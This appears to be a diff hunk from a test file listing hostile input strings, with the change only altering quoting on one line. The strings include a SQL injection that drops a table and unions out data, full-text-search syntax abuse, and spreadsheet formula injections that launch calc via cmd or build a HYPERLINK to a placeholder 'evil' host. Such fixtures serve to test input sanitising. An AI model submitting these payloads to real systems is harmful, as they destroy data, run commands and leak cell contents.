@@ -38,7 +38,7 @@ TEXTS = {
     "sql": "'; DROP TABLE articles; -- \" OR 1=1 UNION SELECT toml FROM sources--",
     "fts": 'NEAR("a" "b", 5) AND (headline:"x" OR *) ^ - + { } " \x00 *',
     "formulas": '=cmd|"/c calc"!A1',
-    "formula-plus": f"+HYPERLINK(\"{JAHAT}\"&A1;\"klik\")",
+    "formula-plus": f'+HYPERLINK("{JAHAT}"&A1;"klik")',
     "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
     "formula-minus": "-2+3+cmd|' /C calc'!A0",
     "formula-tab": "\t=1+1",
